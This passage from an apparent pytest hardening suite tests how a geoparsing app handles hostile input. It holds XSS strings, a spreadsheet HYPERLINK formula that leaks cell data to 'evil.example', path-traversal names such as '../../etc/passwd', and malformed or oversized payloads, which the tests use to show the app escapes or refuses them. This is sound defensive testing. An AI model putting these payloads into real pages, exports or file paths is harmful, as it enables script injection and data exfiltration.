"""Hostile input table: what someone could send, the door it comes in by, and the outcome we promise.

Every row of :data:`ROWS` is one input, the entry point it goes through (the analysis, the
``parse --jsonl`` batch contract, report upload decoding, the CSV / GeoJSON / HTML exports,
the store's ingest, a boundary-layer upload) and its expected outcome: a correct result or a
clear message. Never a crash (any exception other than the documented ``GeoAppError`` /
``ValueError`` fails the row), a hang past the row's guard (``pytest-timeout``), or a partial
write.

The inputs are written here, small where size does not matter. With the environment variable
``GEO_APP_HARDENING_LOG`` set (``benchmarks/bench_hardening.py`` does), each row and the browser
check append one JSON line of what they saw, for the README figures.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import re
import sys
import tempfile
from collections.abc import Callable
from dataclasses import dataclass, field
from functools import lru_cache
from pathlib import Path
from typing import Any

import jsonschema
import pytest
from typer.testing import CliRunner

from geo_app import settings
from geo_app._errors import GeoAppError
from geo_app.io import geojson
from geo_app.io.export import features_export

SCHEMA_DIR = settings.PROJECT_DIR / "schema"
CHROMIUM = Path("/usr/bin/chromium")
MB = 1024 * 1024
PUB = "2022-02-10"

# --- the hostile strings -----------------------------------------------------------------------------

XSS = "<script>window.__pwned=1</script>"
IMG = "<img src=x onerror=window.__pwned=1>"
JS_LINK = '<a href="javascript:window.__pwned=1">Minsk</a>'
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Kyiv")'
MARKDOWN = "**Kyiv** [click](javascript:alert(1)) # heading `code` <b>bold</b> $x$"
#: One report carrying every injection at once: header fields, sentence starts, inline markup.
HOSTILE_REPORT = (
    f"Title: Hostile {XSS} {MARKDOWN}\n"
    f"Source: {FORMULA}\n"
    "Published: 2022-02-12\n"
    "URL: javascript:window.__pwned=1\n"
    "\n"
    f"{FORMULA} Troops moved to Kyiv {IMG} on Saturday.\n"
    f"{XSS} Officials in Vilnius said it was {JS_LINK}.\n"
    "+SUM(1,2) crowds gathered in Gomel. @cmd said Odesa was quiet. -2+3 in Lviv.\n"
)
CELL_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


# --- logging for the benchmark ------------------------------------------------------------------------


def log_event(**event: Any) -> None:
    """Append one JSON line to ``$GEO_APP_HARDENING_LOG`` (only when it is set)."""
    target = os.environ.get("GEO_APP_HARDENING_LOG")
    if target:
        with open(target, "a", encoding="utf-8") as fh:
            fh.write(json.dumps(event) + "\n")


# --- checks shared by the rows ------------------------------------------------------------------------


@lru_cache(maxsize=None)
def validator(name: str) -> jsonschema.Draft202012Validator:
    schema = json.loads((SCHEMA_DIR / name).read_text(encoding="utf-8"))
    return jsonschema.Draft202012Validator(schema)


def assert_offsets(text: str, item: Any, what: str) -> None:
    """``text[start:end] == item.text`` and the span lies inside the text."""
    assert 0 <= item.start <= item.end <= len(text), f"{what} span {item.start}..{item.end} outside 0..{len(text)}"
    assert text[item.start:item.end] == item.text, f"{what} {item.text!r} is not text[{item.start}:{item.end}]"


def assert_valid_record(record: dict[str, Any]) -> None:
    """The record is strict JSON (no NaN, no infinity) and valid against the batch schema."""
    json.dumps(record, allow_nan=False)
    errors = [e.message for e in validator("parse_output.schema.json").iter_errors(record)]
    assert errors == [], errors[:3]


def checked_analysis(text: str, published: object = PUB, **kwargs: Any) -> Any:
    """:func:`geo_app.pipeline.analyze` of ``text``, with every invariant of its output checked."""
    from geo_app.pipeline import analyze

    a = analyze(text, published, **kwargs)
    ex = a.extraction
    assert ex.text == text
    for r in a.resolutions:
        m = r.mention
        assert_offsets(text, m, "mention")
        if m.base_start is not None:
            assert m.start <= m.base_start <= m.base_end <= m.end
        assert 0 <= r.confidence <= 1
    for d in ex.dates:
        assert_offsets(text, d, "date")
        if d.resolved:
            assert d.date_start <= d.date_end
    for d in ex.distances:
        assert_offsets(text, d, "distance")
        assert d.km == d.km and abs(d.km) != float("inf")
    assert_valid_record(a.to_record())
    return a


def rejected(fn: Callable[..., Any], *args: Any, match: str, **kwargs: Any) -> str:
    """Call ``fn``; it must refuse with a GeoAppError (or ValueError) whose message matches."""
    with pytest.raises((GeoAppError, ValueError), match=match) as info:
        fn(*args, **kwargs)
    message = str(info.value)
    assert message and "\n" not in message.strip()  # one clear line
    return message


def places(a: Any) -> set[tuple[str, str | None]]:
    return {(r.place.name, r.place.country_code) for r in a.resolutions if r.place is not None}


def run_batch(tmp_path: Path, content: bytes) -> tuple[int, list[dict[str, Any]], str]:
    """``geo-app parse --jsonl IN --out OUT`` on ``content``: (exit code, output records, stderr)."""
    from geo_app.ui.cli import app

    src, out = tmp_path / "in.jsonl", tmp_path / "out.jsonl"
    src.write_bytes(content)
    result = CliRunner().invoke(app, ["parse", "--jsonl", str(src), "--out", str(out)], catch_exceptions=False)
    lines = out.read_text(encoding="utf-8").split("\n")[:-1] if out.exists() else []
    records = [json.loads(line) for line in lines]
    for record in records:
        assert_valid_record(record)
    return result.exit_code, records, result.stderr


def jsonl(*records: Any) -> bytes:
    return b"".join((r if isinstance(r, bytes) else json.dumps(r).encode()) + b"\n" for r in records)


@lru_cache(maxsize=1)
def hostile_analysis() -> Any:
    """The analysis of :data:`HOSTILE_REPORT`, read as the app reads a paste."""
    from geo_app.text.reports import parse_report

    report = parse_report(HOSTILE_REPORT, name="pasted")
    return report, checked_analysis(report.text, report.published, report_id="hostile", source=report.source)


@lru_cache(maxsize=1)
def hostile_features() -> Any:
    from geo_app import features as L

    return L.features_gdf([hostile_analysis()[1]])


def csv_cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def _is_number(value: str) -> bool:
    try:
        float(value)
    except ValueError:
        return False
    return True


def assert_no_formula_cells(rows: list[dict[str, str]]) -> None:
    """No text cell a spreadsheet would run (a number such as -92.4 is a number, not a formula)."""
    bad = [v for row in rows for v in row.values() if v and v.startswith(CELL_FORMULA_STARTS) and not _is_number(v)]
    assert bad == [], bad[:3]


def assert_no_markup(html: str) -> None:
    """Report strings reach the page only as escaped data: no element, handler or link from them."""
    for raw in (XSS, IMG, JS_LINK, "<b>bold</b>"):
        assert raw not in html, raw
    assert "window.__pwned=1</script>" not in html
    assert not re.search(r"""(?i)(?:href|src)\s*=\s*["']?\s*javascript:""", html)


# --- entry points --------------------------------------------------------------------------------------


def read_upload(name: str, data: bytes) -> Any:
    from geo_app.ui.app import read_upload as app_read_upload

    return app_read_upload(name, data)


def layer_upload(file_name: str, data: bytes, **kwargs: Any) -> Any:
    from geo_app.ui.app import read_layer_upload

    return read_layer_upload(file_name, data, name=kwargs.pop("name", "hostile layer"), **kwargs)


def square(lon: float, lat: float, half: float = 0.1) -> list[list[float]]:
    return [[lon - half, lat - half], [lon + half, lat - half], [lon + half, lat + half], [lon - half, lat + half],
            [lon - half, lat - half]]


def feature_collection(*rings: list[list[float]], crs: str | None = None) -> bytes:
    fc: dict[str, Any] = {"type": "FeatureCollection", "features": [
        {"type": "Feature", "properties": {"name": f"area {i}"}, "geometry": {"type": "Polygon", "coordinates": [r]}}
        for i, r in enumerate(rings)]}
    if crs:
        fc["crs"] = {"type": "name", "properties": {"name": crs}}
    return json.dumps(fc).encode()


# --- rows ------------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Row:
    """One hostile input: what it is, the entry point, the promised outcome, and its check."""

    name: str
    entry: str
    expected: str
    check: Callable[[Path, pytest.MonkeyPatch], Any]
    marks: tuple[Any, ...] = field(default=())


def _empty_analysis(text: str) -> Callable[[Path, pytest.MonkeyPatch], Any]:
    def check(tmp: Path, mp: pytest.MonkeyPatch) -> None:
        a = checked_analysis(text)
        assert a.resolutions == [] and a.claims == [] and a.extraction.dates == []

    return check


def row_binary_upload(tmp: Path, mp: pytest.MonkeyPatch) -> None:
    rejected(read_upload, "photo.txt", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)), match="binary")


def row_stray_nul_upload(tmp: Path, mp: pytest.MonkeyPatch) -> None:
    text = "Troops moved from Gomel\x00 towards Kyiv on 3 March;\x0c the convoy\x1b[0m stopped near Mazyr.\n" * 3
    report = read_upload("from_pdf.txt", text.encode())
    assert report.text == text.replace("\x00", " ").replace("\x1b", " ")  # cleaned one for one; form feed kept
    warned = report.meta["warnings"]
    assert [(w["kind"], w["count"]) for w in warned] == [("control_characters", 6)]
    assert warned[0]["offsets"] == [m.start() for m in re.finditer("[\x00\x1b]", text)]
    # Binary stays refused, by the share of control bytes: UTF-16 without a BOM is half NULs.
    rejected(read_upload, "utf16.txt", "Troops moved to Kyiv.".encode("utf-16-le"), match="looks binary.*BINARY_CONTROL_SHARE")
    mp.setattr(settings, "BINARY_CONTROL_SHARE", 0.01)
    rejected(read_upload, "from_pdf.txt", text.encode(), match="looks binary")


def row_binary_analyze(tmp: Path, mp: pytest.MonkeyPatch) -> None:
    from geo_app.pipeline import analyze

    rejected(analyze, "Kyiv\x00\x01\x02", PUB, match="NUL")
    rejected(analyze, b"\xff\xfe\x00K", PUB, match="not UTF-8")
    rejected(analyze, 12345, PUB, match="must be text")


def row_invalid_utf8_upload(tmp: Path, mp: pytest.MonkeyPatch) -> None:
    rejected(read_upload, "latin1.txt", "Caf\u00e9 owners in Minsk watched.".encode("latin-1"), match="not UTF-8")


def row_utf16_bom(tmp: Path, mp: pytest.MonkeyPatch) -> None:
    text = "Published: 2022-02-10\n\nTroops reached Kyiv and Minsk on Friday."
    for data in (text.encode("utf-16"), b"\xfe\xff" + text.encode("utf-16-be"), b"\xef\xbb\xbf" + text.encode()):
        report = read_upload("wide.txt", data)
        assert report.text.startswith("Troops") and report.published == dt.date(2022, 2, 10)
        assert {("Kyiv", "UA"), ("Minsk", "BY")} <= places(checked_analysis(report.text, report.published))


def row_5mb(tmp: Path, mp: pytest.MonkeyPatch) -> None:
    from geo_app.pipeline import analyze
    from geo_app.text.reports import parse_report

    text = "Troops moved along the road near the border. " * (5 * MB // 46 + 1)
    for fn, args in ((analyze, (text, PUB)), (parse_report, (text,)), (read_upload, ("big.txt", text.encode()))):
        msg = rejected(fn, *args, match="MAX_REPORT_CHARS")
        assert "over the limit" in msg
    code, records, _ = run_batch(tmp, jsonl({"id": "big", "text": text}, {"id": "ok", "text": "Troops in Gomel."}))
    assert code == 1 and "MAX_REPORT_CHARS" in records[0]["error"] and records[1]["mentions"]


def row_50mb(tmp: Path, mp: pytest.MonkeyPatch) -> None:
    from geo_app.pipeline import analyze
    from geo_app.io.ingest import ingest_paths
    from geo_app.io.store import Store

    data = b"Convoys were seen near Gomel and Mozyr. " * (50 * MB // 40 + 1)
    assert "MAX_REPORT_CHARS" in rejected(read_upload, "huge.txt", data, match="over the limit")
    assert "MAX_REPORT_CHARS" in rejected(analyze, data.decode(), PUB, match="over the limit")
    (tmp / "in").mkdir()
    (tmp / "in" / "huge.txt").write_bytes(data)
    (tmp / "in" / "fine.txt").write_text("Troops near Brest.")
    with Store(tmp / "s.gpkg") as store:
        summary = ingest_paths(store, [tmp / "in"])
        log_event(kind="store", good=1, stored=len(summary.added))
        assert len(summary.added) == 1 and len(summary.rejected) == 1
        assert "MAX_REPORT_CHARS" in summary.rejected[0].reason
        assert store.counts()["reports"] == 1


def _long_line(n: int) -> Callable[[Path, pytest.MonkeyPatch], Any]:
    def check(tmp: Path, mp: pytest.MonkeyPatch) -> None:
        filler = "the convoy moved slowly along the road while officials said nothing new about it, "
        tail = " Troops reached Kyiv, some 90 km from the border, on Friday."
        text = (filler * (n // len(filler) + 1))[:n - len(tail)] + tail
        assert "\n" not in text and len(text) == n <= settings.MAX_REPORT_CHARS
        a = checked_analysis(text)
        hits = [r for r in a.resolutions if r.mention.text == "Kyiv"]
        assert hits and hits[0].mention.start > n - 100
        assert [d.km for d in a.extraction.distances] == [90.0]
        assert [d.date_start for d in a.extraction.dates] == [dt.date(2022, 2, 4)]

    return check


def row_numbers_only(tmp: Path, mp: pytest.MonkeyPatch) -> None:
    text = " ".join(str(i) for i in range(0, 5000, 7)) + " 1e308 -5 0.5 100000000000000000000 9" * 3
    a = checked_analysis(text)
    assert a.resolutions == [] and a.extraction.distances == [] and a.claims == []


def row_rtl(tmp: Path, mp: pytest.MonkeyPatch) -> None:
    text = ("وصلت القوات إلى كييف يوم الجمعة. Troops reached Kyiv on Friday.\n"
            "הכוחות הגיעו לקייב. \u202eKyiv\u202c and Minsk were named.")
    a = checked_analysis(text)
    assert ("Kyiv", "UA") in places(a) and ("Minsk", "BY") in places(a)


def row_cyrillic(tmp: Path, mp: pytest.MonkeyPatch) -> None:
    a = checked_analysis("Войска вошли в Киев 24 февраля. Колонны видели у Гомеля, в 20 км от границы.")
    # An English geoparser: Cyrillic names may go unfound, but are never taken for other places.
    assert places(a) <= {("Kyiv", "UA"), ("Gomel", "BY")} and a.extraction.distances == []


def row_emoji(tmp: Path, mp: pytest.MonkeyPatch) -> None:
    a = checked_analysis("🚀 Troops 🇺🇦 reached Kyiv 💥 on Feb 24, 2022 🙂 — some 👀 100 km 👣 from Belarus 🇧🇾.")
    assert ("Kyiv", "UA") in places(a)
    assert [d.date_start for d in a.extraction.dates] == [dt.date(2022, 2, 24)]
    assert [d.km for d in a.extraction.distances] == [100.0]


def row_zero_width(tmp: Path, mp: pytest.MonkeyPatch) -> None:
    text = "Troops reached Ky\u200biv and Min\u200dsk on Friday. \ufeffGomel\u2060 too."
    a = checked_analysis(text)
    # Hidden characters may hide a name, but never turn it into another place.
    assert places(a) <= {("Kyiv", "UA"), ("Minsk", "BY"), ("Gomel", "BY")}
    assert all(r.place is None or r.mention.text.strip("\ufeff\u2060") in ("Ky\u200biv", "Min\u200dsk", "Gomel")
               for r in a.resolutions)  # shown as written


def row_homoglyph(tmp: Path, mp: pytest.MonkeyPatch) -> None:
    text = "Troops reached Ky\u0456v on Friday; later \u041a\u0443\u0456v again."  # Cyrillic і, К, у
    a = checked_analysis(text)
    resolved = [r for r in a.resolutions if r.place is not None]
    assert resolved and all((r.place.name, r.place.country_code) == ("Kyiv", "UA") for r in resolved)
    assert {r.mention.text for r in resolved} <= {"Ky\u0456v", "\u041a\u0443\u0456v"}  # shown as written


def row_script_tags(tmp: Path, mp: pytest.MonkeyPatch) -> None:
    report, a = hostile_analysis()
    assert XSS in report.text and IMG in report.text  # kept as text: what the report said
    assert {("Kyiv", "UA"), ("Vilnius", "LT")} <= places(a)
    quotes = set(hostile_features()["quote"].dropna())
    assert any(IMG in q for q in quotes) and any(XSS in q for q in quotes)


def row_html_upload(tmp: Path, mp: pytest.MonkeyPatch) -> None:
    page = (f"<html><head><title>x</title><script>window.__pwned=1</script><style>p {{}}</style></head><body>"
            f"<p>Published: 2022-02-13</p><p>Convoys near <b>Gomel</b> &amp; Mozyr {IMG}.</p>"
            f"<p>{JS_LINK}</p></body></html>").encode()
    report = read_upload("page.html", page)
    assert "window.__pwned" not in report.text and "<" not in report.text
    assert "Gomel" in report.text and "Mozyr" in report.text and report.published == dt.date(2022, 2, 13)


def row_html_unclosed_tags(tmp: Path, mp: pytest.MonkeyPatch) -> None:
    # Unclosed tags by the hundred thousand: the tag scanner must stay linear (guarded by the timeout).
    for junk in ("<" * 400_000, "<script>" * 100_000, "<p " * 200_000, "<style x" * 80_000):
        report = read_upload("junk.html", ("Convoys near Gomel. " + junk + " Brest.").encode())
        assert report.text.startswith("Convoys near Gomel.")


def row_huge_header(tmp: Path, mp: pytest.MonkeyPatch) -> None:
    for value in ("February " * 120_000, "x" * MB):
        report = read_upload("header.txt", f"Title: t\nPublished: {value}\n\nTroops reached Kyiv.".encode())
        assert report.published is None and report.text == "Troops reached Kyiv."


def row_javascript_url(tmp: Path, mp: pytest.MonkeyPatch) -> None:
    from geo_app.render import maps

    report, _ = hostile_analysis()
    assert report.url == "javascript:window.__pwned=1"  # kept as data, never a link
    html = maps.export_html(hostile_features(), title=report.title)
    assert_no_markup(html)
    assert maps.external_urls(html) == []


def row_markdown(tmp: Path, mp: pytest.MonkeyPatch) -> None:
    from geo_app.ui.app import md_escape

    report, _ = hostile_analysis()
    escaped = md_escape(report.title)
    specials = "\\`*_{}[]()#+-.!|<>~$:"
    assert not re.search(r"(?<!\\)[" + re.escape(specials) + "]", re.sub(r"\\.", "", escaped))
    assert re.sub(r"\\(.)", r"\1", escaped) == report.title.replace("\n", " ")


def row_csv_formula(tmp: Path, mp: pytest.MonkeyPatch) -> None:
    from geo_app.ui.app import exports_for

    gdf = hostile_features()
    rows = csv_cells(exports_for(gdf, title="t", window=None)["csv"]())
    assert_no_formula_cells(rows)
    assert {"'" + FORMULA} <= {r["source"] for r in rows}  # shown, not run
    assert any(r["quote"].startswith("'" + FORMULA) for r in rows)
    assert float(rows[0]["lon"]) == pytest.approx(float(gdf.geometry.iloc[0].representative_point().x), abs=1e-6)
    # a place name itself written as a formula
    one = geojson.from_geojson({"type": "FeatureCollection", "features": [
        {"type": "Feature", "geometry": {"type": "Point", "coordinates": [-92.4, 31.3]},
         "properties": {"feature_id": "x:m0", "kind": "place", "layer": "places", "name": FORMULA, "text": "@SUM(A1)",
                        "reason": "-1+2", "quote": "\t=1+1"}}]})
    cells = csv_cells(features_export(one, "csv")[0].decode("utf-8"))
    assert_no_formula_cells(cells)
    assert cells[0]["name"] == "'" + FORMULA and cells[0]["lon"] == "-92.4"


def row_geojson(tmp: Path, mp: pytest.MonkeyPatch) -> None:

    text = geojson.to_geojson_text(hostile_features())
    fc = json.loads(text)
    errors = [e.message for e in validator("feature.schema.json").iter_errors(fc)]
    assert errors == [] and fc["features"]
    props = [f["properties"] for f in fc["features"]]
    assert {FORMULA} == {p["source"] for p in props}  # data is exact: escaping is the reader's job
    assert any(IMG in (p["quote"] or "") for p in props)


def row_store_ingest_export(tmp: Path, mp: pytest.MonkeyPatch) -> None:
    from geo_app.batch.distributed import run_analysis
    from geo_app.io.export import export_bytes
    from geo_app.io.ingest import ingest_paths
    from geo_app.io.store import Store

    (tmp / "hostile.txt").write_text(HOSTILE_REPORT, encoding="utf-8")
    with Store(tmp / "s.gpkg") as store:
        assert len(ingest_paths(store, [tmp / "hostile.txt"]).added) == 1
        assert run_analysis(store).analysed == 1
        data, counts = export_bytes(store, "csv")
        assert counts["features"] > 0
        assert_no_formula_cells(csv_cells(data.decode()))
        fc = json.loads(export_bytes(store, "geojson")[0])
        assert {f["properties"]["source"] for f in fc["features"]} == {FORMULA}


def row_store_mixed_jsonl(tmp: Path, mp: pytest.MonkeyPatch) -> None:
    from geo_app.io.ingest import ingest_paths
    from geo_app.io.store import Store

    good = [{"id": f"g{i}", "text": f"Troops moved near Gomel on day {i}."} for i in range(3)]
    content = jsonl(good[0], b"{not json", b"[" * 100_000, {"id": "s", "text": "Kyiv \ud800 Minsk"},
                    {"id": "n", "text": "Kyiv\u0000"}, good[1],
                    {"id": "../../etc/passwd", "text": "Drills near Brest."},
                    b"caf\xe9 garbage", {"id": "x", "text": 5}, good[2])
    (tmp / "feed.jsonl").write_bytes(content)
    with Store(tmp / "s.gpkg") as store:
        summary = ingest_paths(store, [tmp / "feed.jsonl"])
        reasons = " | ".join(r.reason for r in summary.rejected)
        log_event(kind="store", good=6, stored=len(summary.added))
        assert len(summary.added) == 6, reasons  # every good or cleanable line stored: none lost
        assert len(summary.rejected) == 4
        for needle in ("line 2", "nested too deeply", "not UTF-8", "'text' string"):
            assert needle in reasons
        stored = {r.report_key: store.get(r.id).text for r in store.list()}
    assert set(stored) == {"g0", "g1", "g2", "../../etc/passwd", "s", "n"}
    # A lone surrogate and a NUL are cleaned one for one (issue 16): same length, offsets kept.
    assert stored["s"] == "Kyiv \ufffd Minsk" and stored["n"] == "Kyiv "
    assert sorted(p.name for p in tmp.iterdir() if not p.name.startswith("s.gpkg")) == ["feed.jsonl"]


def row_store_no_partial_write(tmp: Path, mp: pytest.MonkeyPatch) -> None:
    from geo_app.text.reports import Report
    from geo_app.io.store import Store

    good = Report(text="Troops near Gomel.", report_id="good")
    bad = Report(text="Kyiv \ud800", report_id="bad-but-constructed-directly")
    with Store(tmp / "s.gpkg") as store:
        with pytest.raises(ValueError):
            store.add_reports([(good, "a"), (bad, "b")])
        assert store.counts()["reports"] == 0  # the good one was not half-written either
        store.add_reports([(good, "a")])
        assert store.counts()["reports"] == 1


def row_impossible_dates(tmp: Path, mp: pytest.MonkeyPatch) -> None:
    a = checked_analysis("Talks were held on 31 February 2022 in Minsk, and on February 30 in Kyiv.")
    bad = [d for d in a.extraction.dates if not d.resolved]
    assert len(bad) == 2 and all("no such date" in d.reason for d in bad)
    a = checked_analysis("Talks will end on 1 January 99999 in Minsk, in the year 99999, or 10000 AD.")
    for d in a.extraction.dates:
        assert not d.resolved or 1900 <= d.date_start.year <= 2100
    from geo_app.pipeline import analyze

    rejected(analyze, "Troops in Minsk.", "99999-01-01", match="not an ISO date")
    rejected(analyze, "Troops in Minsk.", "2022-02-31", match="not an ISO date")
    for edge in ("0001-01-01", "9999-12-31"):  # arithmetic past year 1 or 9999 is unresolved, not a crash
        a = checked_analysis("Yesterday, tomorrow, last year, next week and in 10 years troops left Minsk.", edge)
        assert ("Minsk", "BY") in places(a)


def row_huge_distance(tmp: Path, mp: pytest.MonkeyPatch) -> None:
    a = checked_analysis("Kyiv is 1e308 km from the border of Belarus; Minsk is 1e309 km away; Lviv -100 km.")
    kms = [d.km for d in a.extraction.distances]
    assert 1e308 in kms and -100.0 in kms and len(kms) == 2  # 1e309 overflows: skipped, not inf
    claims = {c.to_dict()["claimed_km"]: c.to_dict() for c in a.claims}
    assert claims[1e308]["verdict"] == "contradicted" and len(claims[1e308]["summary"]) < 400


def row_10k_mentions_extract(tmp: Path, mp: pytest.MonkeyPatch) -> None:
    from geo_app.text.extract import extract

    text = "Kyiv, Minsk, Gomel and Vilnius. " * 2500
    ex = extract(text, dt.date(2022, 2, 10))
    assert len(ex.mentions) == 10_000
    for m in ex.mentions[::97]:
        assert_offsets(text, m, "mention")


def row_10k_mentions_analyze(tmp: Path, mp: pytest.MonkeyPatch) -> None:
    from geo_app import features as L
    from geo_app.render import maps

    a = checked_analysis("Kyiv, Minsk, Gomel and Vilnius. " * 2500)
    assert len(a.resolutions) == 10_000
    html = maps.export_html(L.features_gdf([a]))
    assert "MAX_MENTIONS_DRAWN" in html  # 10,000 > 5,000 points: capped, and the map says so


def row_mentions_drawn_limit(tmp: Path, mp: pytest.MonkeyPatch) -> None:
    from geo_app import features as L
    from geo_app.render import maps

    gdf = L.features_gdf([checked_analysis("Kyiv, Minsk, Gomel, Vilnius, Lviv and Odesa were named; Riga too.")])
    is_point = (gdf["kind"] != "claim") & (gdf.geometry.geom_type == "Point")
    n_points = int(is_point.sum())
    assert n_points >= 6
    mp.setattr(settings, "MAX_MENTIONS_DRAWN", 3)
    drawn, note = maps.cap_mentions(gdf)
    assert note and "geo_app.settings.MAX_MENTIONS_DRAWN" in note and f"{n_points:,} mentions found" in note
    assert int(((drawn["kind"] != "claim") & (drawn.geometry.geom_type == "Point")).sum()) == 3
    assert "MAX_MENTIONS_DRAWN" in maps.export_html(gdf, title="capped")  # the map says so in its title
    mp.setattr(settings, "MAX_MENTIONS_DRAWN", n_points)
    assert maps.cap_mentions(gdf) == (gdf, None)


def row_batch_surrogates(tmp: Path, mp: pytest.MonkeyPatch) -> None:
    code, records, _ = run_batch(tmp, b'{"id": "\\ud800", "text": "Kyiv."}\n{"id": "b", "text": "Minsk \\udc00."}\n'
                                      b'{"id": "c", "text": "Gomel."}\n')
    # Issue 16: the surrogate in the text is replaced by U+FFFD and warned about; every line answered.
    assert code == 0 and len(records) == 3 and not any("error" in r for r in records)
    assert records[0]["id"] == "\ud800" and records[2]["mentions"]
    assert [m["text"] for m in records[1]["mentions"]] == ["Minsk"]
    assert [(w["kind"], w["offsets"]) for w in records[1]["warnings"]] == [("lone_surrogates", [6])]


def row_long_unspaced_run(tmp: Path, mp: pytest.MonkeyPatch) -> None:
    a = checked_analysis("Troops reached Kyiv. " + "=" * 50_000 + " Minsk " + "😀" * 50_000)
    assert ("Kyiv", "UA") in places(a)


def row_mixed_batch(tmp: Path, mp: pytest.MonkeyPatch) -> None:
    content = jsonl(
        {"id": "ok", "text": "Kyiv is as close as 100 km from the border of Belarus.", "published": PUB},
        b"{not json", [1, 2], {"id": 5}, {"id": "t", "text": 5}, {"id": "nul", "text": "Kyiv\u0000"},
        {"id": "p", "text": "Troops in Minsk.", "published": "99999-01-01"},
        {"id": "q", "text": "Troops in Minsk.", "published": "2022-02-31"},
        {"id": "../../etc/passwd", "text": "Drills near Brest."}, b"   ",
        {"id": {"nested": [1, 2]}, "text": "Troops near Gomel."}, {"id": None, "text": ""},
    )
    code, records, stderr = run_batch(tmp, content)
    assert code == 1 and stderr == ""
    assert len(records) == 11  # one per non-blank line, in order
    errors = [r.get("error", "") for r in records]
    assert [bool(e) for e in errors] == [False, True, True, True, True, False, True, True, False, False, False]
    assert records[0]["claims"] and records[8]["id"] == "../../etc/passwd"
    assert "line 2" in errors[1] and "not an ISO date" in errors[6]
    # The NUL is cleaned, not refused (issue 16): Kyiv found, the NUL listed in the warnings.
    assert ("Kyiv", "UA") in {(m["text"], m["country_code"]) for m in records[5]["mentions"]}
    assert [(w["kind"], w["offsets"]) for w in records[5]["warnings"]] == [("control_characters", [4])]
    assert sorted(p.name for p in tmp.iterdir()) == ["in.jsonl", "out.jsonl"]


def row_batch_invalid_utf8_line(tmp: Path, mp: pytest.MonkeyPatch) -> None:
    code, records, _ = run_batch(tmp, jsonl({"id": "a", "text": "Kyiv."}, b'{"id": "x", "text": "caf\xe9"}',
                                             {"id": "b", "text": "Minsk."}))
    assert code == 1 and [r["id"] for r in records] == ["a", "x", "b"] and "error" in records[1]


def row_batch_deep_json(tmp: Path, mp: pytest.MonkeyPatch) -> None:
    content = jsonl({"id": "a", "text": "Kyiv."}, b"[" * 100_000, {"id": "b", "text": "Minsk."})
    code, records, _ = run_batch(tmp, content)
    assert code == 1 and len(records) == 3 and "error" in records[1] and records[2]["mentions"]


def row_batch_bom(tmp: Path, mp: pytest.MonkeyPatch) -> None:
    code, records, _ = run_batch(tmp, b"\xef\xbb\xbf" + jsonl({"id": "a", "text": "Kyiv."}))
    assert code == 0 and records[0]["mentions"]


def row_upload_dotdot_name(tmp: Path, mp: pytest.MonkeyPatch) -> None:
    (tmp / "secret.txt").write_text("SECRET")
    (tmp / "cwd").mkdir()
    mp.chdir(tmp / "cwd")
    report = read_upload("../secret.txt", b"Troops reached Kyiv.")
    assert report.text == "Troops reached Kyiv." and report.meta["file"] == "../secret.txt"
    rejected(read_upload, "../../../etc/passwd", b"root:x:0:0", match="unsupported file type")
    assert (tmp / "secret.txt").read_text() == "SECRET"
    assert sorted(p.name for p in tmp.iterdir()) == ["cwd", "secret.txt"]
    assert list((tmp / "cwd").iterdir()) == []


def row_layer_dotdot_name(tmp: Path, mp: pytest.MonkeyPatch) -> None:
    (tmp / "tmp").mkdir()
    mp.setattr(tempfile, "tempdir", str(tmp / "tmp"))
    info, gdf, _ = layer_upload("../../../evil.geojson", feature_collection(square(30.5, 50.4)))
    assert info.source_file == "evil.geojson" and len(gdf) == 1
    assert sorted(p.name for p in tmp.iterdir()) == ["tmp"] and list((tmp / "tmp").iterdir()) == []


def row_layer_invalid(tmp: Path, mp: pytest.MonkeyPatch) -> None:
    rejected(layer_upload, "broken.geojson", b'{"type": "FeatureCollection", "features": [',
             match="broken.geojson: GDAL cannot read it .*Unterminated")
    rejected(layer_upload, "notgeo.geojson", b'{"hello": "world"}', match="notgeo.geojson: GDAL cannot read it")
    rejected(layer_upload, "binary.geojson", bytes(range(256)) * 10, match="binary.geojson: GDAL cannot read it")
    rejected(layer_upload, "points.geojson", json.dumps({"type": "FeatureCollection", "features": [
        {"type": "Feature", "properties": {}, "geometry": {"type": "Point", "coordinates": [30.5, 50.4]}}]}).encode(),
        match="only points")


def row_layer_bowtie(tmp: Path, mp: pytest.MonkeyPatch) -> None:
    bowtie = [[30.0, 50.0], [31.0, 51.0], [31.0, 50.0], [30.0, 51.0], [30.0, 50.0]]
    info, gdf, repairs = layer_upload("bowtie.geojson", feature_collection(bowtie))
    assert len(repairs) == 1 and "Self-intersection" in repairs[0].reason and gdf.geometry.is_valid.all()


def row_layer_huge(tmp: Path, mp: pytest.MonkeyPatch) -> None:
    data = feature_collection(*[square(30 + i * 0.01, 50.0, 0.004) for i in range(50)])
    mp.setattr(settings, "USER_LAYER_MAX_BYTES", len(data) - 1)
    assert "USER_LAYER_MAX_BYTES" in rejected(layer_upload, "big.geojson", data, match="over the limit")
    mp.setattr(settings, "USER_LAYER_MAX_BYTES", 10 * len(data))
    mp.setattr(settings, "USER_LAYER_MAX_FEATURES", 49)
    assert "USER_LAYER_MAX_FEATURES" in rejected(layer_upload, "many.geojson", data, match="over the limit")


def row_layer_wrong_crs(tmp: Path, mp: pytest.MonkeyPatch) -> None:
    metres = [[500000.0, 5590000.0], [510000.0, 5590000.0], [510000.0, 5600000.0], [500000.0, 5600000.0],
              [500000.0, 5590000.0]]
    rejected(layer_upload, "utm_as_wgs84.geojson", feature_collection(metres), match="outside longitude")
    info, gdf, _ = layer_upload("utm.geojson", feature_collection(metres, crs="urn:ogc:def:crs:EPSG::32635"))
    assert info.crs == "EPSG:32635"
    minx, miny, maxx, maxy = gdf.total_bounds
    assert 26.9 < minx < maxx < 27.2 and 50.4 < miny < maxy < 50.6  # UTM 35N, reprojected to lon/lat
    rejected(layer_upload, "bad_crs.geojson", feature_collection(square(30, 50)), crs="EPSG:999999",
             match="coordinate system")


ROWS: list[Row] = [
    Row("empty text", "analyze", "result: nothing found", _empty_analysis("")),
    Row("whitespace only", "analyze", "result: nothing found", _empty_analysis(" \n\t\r\n \u00a0\u2003 ")),
    Row("empty and whitespace upload", "upload", "message: '... is empty'",
